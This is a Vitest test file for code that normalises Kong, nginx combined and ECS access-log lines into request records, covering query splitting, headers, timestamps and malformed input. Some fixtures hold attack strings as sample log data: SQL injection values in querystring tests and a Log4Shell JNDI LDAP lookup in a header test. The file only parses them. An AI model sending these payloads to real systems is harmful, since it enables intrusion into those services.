import { describe, expect, it } from 'vitest'
import { detectLineFormat, normalizeLine } from './detect-format'
import { parseNginxTime } from './normalize-combined'
import { parseQuery } from './parse-query'
import type { RequestRecord } from './request-record'

function ok(text: string, format: 'kong' | 'combined' | 'ecs' | 'auto' = 'auto'): RequestRecord {
  const n = normalizeLine(text, 7, format)
  if (!n.ok) throw new Error(`expected a record, got: ${n.reason}`)
  return n.record
}

const kongLine = JSON.stringify({
  request: {
    id: 'abc123',
    uri: '/api/v1/quotes?symbol=6758.T&q=a%20b+c&flag&q=2',
    method: 'get',
    headers: { 'user-agent': 'okhttp/4.12', 'x-trace': ['one', 'two'], cookie: 'sid=zz' },
    querystring: { symbol: 'decoded-by-kong-must-not-be-used' },
    size: 321,
    body: '{"note":"hi"}',
  },
  response: { status: 401, size: 99 },
  latencies: { request: 12 },
  consumer: { username: 'desk-bot', id: 'c-1' },
  route: { name: 'quotes' },
  service: { name: 'market-data' },
  client_ip: '203.0.113.9',
  started_at: 1773097203000,
  source: 'kong',
})

describe('kong normaliser', () => {
  it('reads the raw uri, splits the query itself and keeps repeated headers', () => {
    const r = ok(kongLine)
    expect(r.recordId).toBe('abc123')
    expect(r.method).toBe('GET')
    expect(r.path).toBe('/api/v1/quotes')
    expect(r.rawQuery).toBe('symbol=6758.T&q=a%20b+c&flag&q=2')
    expect(r.query).toEqual([
      { name: 'symbol', value: '6758.T' },
      { name: 'q', value: 'a%20b+c' },
      { name: 'flag', value: '' },
      { name: 'q', value: '2' },
    ])
    expect(r.headers.filter((h) => h.name === 'x-trace').map((h) => h.value)).toEqual([
      'one',
      'two',
    ])
    expect(r).toMatchObject({
      body: '{"note":"hi"}',
      ip: '203.0.113.9',
      consumer: 'desk-bot',
      route: 'quotes',
      service: 'market-data',
      status: 401,
      requestBytes: 321,
      responseBytes: 99,
      latencyMs: 12,
      time: 1773097203000,
      fromGateway: true,
      line: 7,
    })
  })

  it("keeps a plugin's authenticated entity as the subject only when it mapped no consumer", () => {
    const line = (extra: object) =>
      JSON.stringify({
        request: { uri: '/api/v2/me', method: 'GET', headers: {} },
        response: { status: 200 },
        client_ip: '203.0.113.9',
        started_at: 1773097203000,
        ...extra,
      })
    // an OpenID Connect plugin vouching for a customer who is no consumer
    expect(ok(line({ authenticated_entity: { id: 'fff72c77-f24d' } }))).toMatchObject({
      consumer: null,
      subject: 'fff72c77-f24d',
    })
    // a key-auth credential of a consumer: the consumer is the identity
    expect(
      ok(
        line({
          authenticated_entity: { id: 'cred-9', consumer_id: 'c-1' },
          consumer: { username: 'desk-bot', id: 'c-1' },
        }),
      ),
    ).toMatchObject({ consumer: 'desk-bot', subject: null })
    expect(ok(line({}))).toMatchObject({ consumer: null, subject: null })
  })

  it('handles escaped slashes as written by lua-cjson', () => {
    const r = ok(
      '{"request":{"uri":"\\/a\\/b?x=1","method":"GET","headers":{}},"client_ip":"10.0.0.1","started_at":1}',
    )
    expect(r.path).toBe('/a/b')
    expect(r.fromGateway).toBe(false)
  })
})

describe('query splitting', () => {
  it('skips empty parts, keeps bare keys and only the first = splits', () => {
    expect(parseQuery('')).toEqual([])
    expect(parseQuery('&&')).toEqual([])
    expect(parseQuery('&a=1&&b&=c&d==e&')).toEqual([
      { name: 'a', value: '1' },
      { name: 'b', value: '' },
      { name: '', value: 'c' },
      { name: 'd', value: '=e' },
    ])
  })

  it('keeps at most 512 parameters', () => {
    const q = Array.from({ length: 600 }, (_, i) => `p${i}=${i}`).join('&')
    const out = parseQuery(q)
    expect(out).toHaveLength(512)
    expect(out[511]).toEqual({ name: 'p511', value: '511' })
  })
})

describe('kong header names', () => {
  it('lower-cases names written in another case and an absolute uri loses its origin', () => {
    const r = ok(
      JSON.stringify({
        request: {
          uri: 'HTTPS://h.example/x?a=1',
          method: 'Post',
          headers: { 'User-Agent': 'UA', Accept: ['a', 'b'], 'x-n': 5 },
        },
        client_ip: '10.0.0.1',
        started_at: 1,
      }),
    )
    expect(r.headers).toEqual([
      { name: 'user-agent', value: 'UA' },
      { name: 'accept', value: 'a' },
      { name: 'accept', value: 'b' },
      { name: 'x-n', value: '5' },
    ])
    expect(r.method).toBe('POST')
    // Only lower-case schemes are origins (as before): an upper-case one stays part of the path.
    expect(r.path).toBe('HTTPS://h.example/x')
    const abs = ok(
      '{"request":{"uri":"https://h.example:443/p?q=1"},"client_ip":"1","started_at":1}',
    )
    expect(abs.path).toBe('/p')
    expect(abs.rawQuery).toBe('q=1')
  })

  it('reads request.querystring when the uri was logged without its query', () => {
    const r = ok(
      JSON.stringify({
        request: {
          uri: '/api/v1/orders',
          querystring: { id: "1' or '1'='1", debug: true, tag: ['a', 'b'], n: 5 },
        },
        client_ip: '10.0.0.1',
        started_at: 1,
      }),
    )
    expect(r.path).toBe('/api/v1/orders')
    expect(r.query).toEqual([
      { name: 'id', value: "1' or '1'='1" },
      { name: 'debug', value: '' },
      { name: 'tag', value: 'a' },
      { name: 'tag', value: 'b' },
      { name: 'n', value: '5' },
    ])
    // With the query in the uri, the uri is what counts (it is the raw form).
    const both = ok(
      '{"request":{"uri":"/p?q=%27x","querystring":{"q":"\'x"}},"client_ip":"1","started_at":1}',
    )
    expect(both.rawQuery).toBe('q=%27x')
  })

  it('keeps a decoded request.querystring value whole when it holds & + % or #', () => {
    const r = ok(
      JSON.stringify({
        request: {
          uri: '/api/v1/orders',
          querystring: { 'a&b=c': "x' or 'a'='a'&debug=1", note: '100% + fees #3' },
        },
        client_ip: '10.0.0.1',
        started_at: 1,
      }),
    )
    expect(r.query.map((p) => [decodeURIComponent(p.name), decodeURIComponent(p.value)])).toEqual([
      ['a&b=c', "x' or 'a'='a'&debug=1"],
      ['note', '100% + fees #3'],
    ])
  })

  it("reads a 401's WWW-Authenticate scheme, and none for other statuses", () => {
    const rec = (status: number, wa: unknown) =>
      ok(
        JSON.stringify({
          request: { uri: '/r', headers: { authorization: 'REDACTED' } },
          response: { status, headers: { 'www-authenticate': wa } },
          client_ip: '10.0.0.1',
          started_at: 1,
        }),
      ).authChallenge
    expect(rec(401, 'Basic realm="pb-reports"')).toBe('basic')
    expect(rec(401, ['Bearer realm="api", error="invalid_token"', 'Basic realm="x"'])).toBe(
      'bearer',
    )
    expect(rec(401, 42)).toBeNull()
    expect(rec(200, 'Basic realm="x"')).toBeNull()
  })

  it('reads started_at in seconds or as ISO 8601, and @timestamp when it is missing', () => {
    const at = (extra: Record<string, unknown>) =>
      ok(JSON.stringify({ request: { uri: '/p' }, client_ip: '10.0.0.1', ...extra })).time
    const ms = Date.UTC(2026, 8, 15, 0, 30, 0, 250)
    expect(at({ started_at: ms })).toBe(ms)
    expect(at({ started_at: ms / 1000 })).toBe(ms)
    expect(at({ started_at: String(ms) })).toBe(ms)
    expect(at({ started_at: '2026-09-15T09:30:00.250+09:00' })).toBe(ms)
    expect(at({ '@timestamp': '2026-09-15T00:30:00.250Z' })).toBe(ms)
    expect(at({ started_at: 'yesterday' })).toBe(0)
    // small numbers stay milliseconds (tests and replays count from zero)
    expect(at({ started_at: 5000 })).toBe(5000)
  })
})

describe('combined normaliser', () => {
  it('parses fields, unescapes \\xHH as UTF-8 and converts the offset to UTC', () => {
    const line =
      '198.51.100.4 - ops [10/Mar/2026:08:00:03 +0900] "GET /api/v1/news?q=\\xE3\\x83\\x88 HTTP/2.0" 200 15 "https://x.example/" "curl/8.5.0"'
    const r = ok(line)
    expect(detectLineFormat(line)).toBe('combined')
    expect(r.ip).toBe('198.51.100.4')
    expect(r.consumer).toBe('ops')
    expect(r.method).toBe('GET')
    expect(r.path).toBe('/api/v1/news')
    expect(r.rawQuery).toBe('q=ト')
    expect(r.status).toBe(200)
    expect(r.responseBytes).toBe(15)
    expect(r.headers).toEqual([
      { name: 'referer', value: 'https://x.example/' },
      { name: 'user-agent', value: 'curl/8.5.0' },
    ])
    expect(r.time).toBe(Date.UTC(2026, 2, 9, 23, 0, 3))
  })

  it('parses negative offsets and keeps a junk request line as the path', () => {
    expect(parseNginxTime('01/Jan/2026:00:00:00 -0130')).toBe(Date.UTC(2026, 0, 1, 1, 30, 0))
    const r = ok('192.0.2.1 - - [01/Jan/2026:00:00:00 +0000] "\\x16\\x03\\x01junk" 400 0 "-" "-"')
    expect(r.method).toBe('')
    expect(r.path).toContain('junk')
  })
})

describe('ecs normaliser', () => {
  it('reads the headers where a Kong pipeline kept them (kong.request.headers)', () => {
    const r = ok(
      JSON.stringify({
        '@timestamp': '2026-03-18T07:12:08.038-04:00',
        'source.ip': '192.0.2.7',
        'http.request.method': 'GET',
        url: { original: 'https://app.desk.example/x', domain: 'app.desk.example' },
        'kong.request.headers': { referer: 'https://r.example/', cookie: 'sid=abc; locale=en' },
        kong: { route: { name: 'web' } },
      }),
      'ecs',
    )
    expect(r.headers).toContainEqual({ name: 'referer', value: 'https://r.example/' })
    expect(r.headers).toContainEqual({ name: 'cookie', value: 'sid=abc; locale=en' })
    expect(r.route).toBe('web')
  })

  it("restores the Host header from url.domain and reads a Kong pipeline's consumer and source", () => {
    const r = ok(
      JSON.stringify({
        '@timestamp': '2026-03-10T00:00:01Z',
        source: { ip: '192.0.2.7' },
        url: { original: '/sso/password/reset', domain: 'api.desk.example' },
        http: { request: { method: 'POST' }, response: { status_code: 401 } },
        kong: { consumer: { username: 'cpty-4471' }, service: { name: 'idp' }, source: 'kong' },
      }),
      'ecs',
    )
    expect(r.headers).toContainEqual({ name: 'host', value: 'api.desk.example' })
    expect(r).toMatchObject({ consumer: 'cpty-4471', service: 'idp', fromGateway: true })
    const full = ok(
      JSON.stringify({
        '@timestamp': '2026-03-10T00:00:01Z',
        source: { ip: '192.0.2.7' },
        url: { original: 'https://api.desk.example:8443/x' },
        http: { request: { method: 'GET', headers: {} } },
      }),
      'ecs',
    )
    expect(full.headers).toContainEqual({ name: 'host', value: 'api.desk.example' })
  })

  it('reads nested and flat dotted fields', () => {
    const nested = ok(
      JSON.stringify({
        '@timestamp': '2026-03-10T00:00:01.500Z',
        event: { id: 'ev-1' },
        source: { ip: '192.0.2.7' },
        url: { original: '/api/v1/orders?id=5' },
        http: {
          request: { method: 'POST', body: { content: '{"a":1}' } },
          response: { status_code: 201 },
        },
        user_agent: { original: 'Go-http-client/1.1' },
      }),
    )
    expect(nested).toMatchObject({
      recordId: 'ev-1',
      ip: '192.0.2.7',
      path: '/api/v1/orders',
      rawQuery: 'id=5',
      method: 'POST',
      body: '{"a":1}',
      status: 201,
      time: Date.parse('2026-03-10T00:00:01.500Z'),
    })
    expect(nested.headers).toContainEqual({ name: 'user-agent', value: 'Go-http-client/1.1' })
    const flat = ok(
      JSON.stringify({
        '@timestamp': '2026-03-10T00:00:00Z',
        'client.ip': '10.1.1.1',
        'url.path': '/x',
        'url.query': 'a=1',
        'http.request.method': 'GET',
        'http.request.referrer': 'https://r.example/',
      }),
    )
    expect(flat).toMatchObject({ ip: '10.1.1.1', path: '/x', rawQuery: 'a=1', method: 'GET' })
    expect(flat.headers).toContainEqual({ name: 'referer', value: 'https://r.example/' })
  })

  it('reads fields flattened at any level, and ECS without @timestamp', () => {
    const r = ok(
      JSON.stringify({
        'http.request': { method: 'PUT', 'body.content': 'x=1' },
        http: { 'response.status_code': '404' },
        'url.original': '/a?b=c',
        source: { address: '198.51.100.9' },
      }),
    )
    expect(r).toMatchObject({
      method: 'PUT',
      body: 'x=1',
      status: 404,
      path: '/a',
      ip: '198.51.100.9',
    })
  })

  it('reads headers a shipper wrote as flat keys of their own, at any level', () => {
    const r = ok(
      JSON.stringify({
        'url.original': '/v2/ping',
        'source.ip': '203.0.113.66',
        'http.request.headers.x-api-version': '${jndi:ldap://198.51.100.77/a}',
        'http.request.headers.Authorization': 'Bearer abc',
        http: { 'request.headers.x-trace': 't1', request: { 'headers.x-b3': 'b1' } },
      }),
    )
    expect(r.headers).toEqual(
      expect.arrayContaining([
        { name: 'x-api-version', value: '${jndi:ldap://198.51.100.77/a}' },
        { name: 'authorization', value: 'Bearer abc' },
        { name: 'x-trace', value: 't1' },
        { name: 'x-b3', value: 'b1' },
      ]),
    )
    // Headers kept as an object and as flat keys beside it are both read.
    const both = ok(
      JSON.stringify({
        'url.original': '/',
        http: { request: { headers: { accept: 'text/html' } } },
        'http.request.headers.referer': 'https://r.example/',
      }),
    )
    expect(both.headers).toEqual(
      expect.arrayContaining([
        { name: 'accept', value: 'text/html' },
        { name: 'referer', value: 'https://r.example/' },
      ]),
    )
  })
})

describe('a source declared as one JSON format carrying the other', () => {
  const kongDoc = {
    '@timestamp': '2026-09-15T00:30:00Z',
    request: { uri: '/pb/v2/orders?id=1', method: 'GET', headers: { 'user-agent': 'k' } },
    client_ip: '203.0.113.5',
    started_at: Date.UTC(2026, 8, 15, 0, 30),
  }
  const ecsDoc = {
    '@timestamp': '2026-09-15T00:30:00Z',
    url: { original: '/fx/rates?pair=EURJPY' },
    source: { ip: '203.0.113.6' },
  }

  it('reads Kong lines shipped into an index read as ECS, and ECS documents imported as Kong', () => {
    expect(ok(JSON.stringify(kongDoc), 'ecs')).toMatchObject({
      path: '/pb/v2/orders',
      ip: '203.0.113.5',
    })
    expect(ok(JSON.stringify(ecsDoc), 'kong')).toMatchObject({
      path: '/fx/rates',
      ip: '203.0.113.6',
    })
  })

  it("keeps the declared reader's reason for a document of neither shape", () => {
    const n = normalizeLine('{"hello":"world"}', 1, 'ecs')
    expect(n.ok ? 'ok' : n.reason).toBe('ecs: no url.original or url.path')
  })
})

describe('nesting depth', () => {
  const kongWith = (extra: string) =>
    `{"request":{"uri":"/x","method":"GET","headers":{}},"client_ip":"192.0.2.1","started_at":1,"x":${extra}}`
  const reason = (text: string) => {
    const n = normalizeLine(text, 1, 'kong')
    return n.ok ? 'ok' : n.reason
  }

  it('counts a document nested past 64 levels, parsed or broken, and accepts 64', () => {
    // The top-level object is level 1: 63 more arrays inside it make 64 levels.
    expect(reason(kongWith('['.repeat(63) + ']'.repeat(63)))).toBe('ok')
    expect(reason(kongWith('['.repeat(64) + ']'.repeat(64)))).toBe('JSON nested deeper than 64')
    expect(reason(kongWith('{"a":'.repeat(64) + '1' + '}'.repeat(64)))).toBe(
      'JSON nested deeper than 64',
    )
    expect(reason('['.repeat(200_000) + ']'.repeat(200_000))).toBe('JSON nested deeper than 64')
    expect(reason('{"a":'.repeat(100))).toBe('JSON nested deeper than 64')
    expect(reason('{"a":'.repeat(10))).toBe('kong: invalid JSON')
  })

  it('does not count brackets inside strings', () => {
    expect(reason(kongWith(JSON.stringify('['.repeat(500))))).toBe('ok')
  })
})

describe('malformed input', () => {
  it('counts bad lines with a reason instead of throwing', () => {
    const cases = [
      '',
      '{"request":',
      '{"nope":1}',
      '\u0000\u0001\u0002binary',
      'not a log line',
      '['.repeat(500) + ']'.repeat(500),
      'x'.repeat(1_000_001),
    ]
    for (const c of cases) {
      const n = normalizeLine(c, 1, 'auto')
      expect(n.ok, c.slice(0, 20)).toBe(false)
      if (!n.ok) expect(n.reason.length).toBeGreaterThan(3)
    }
  })
})
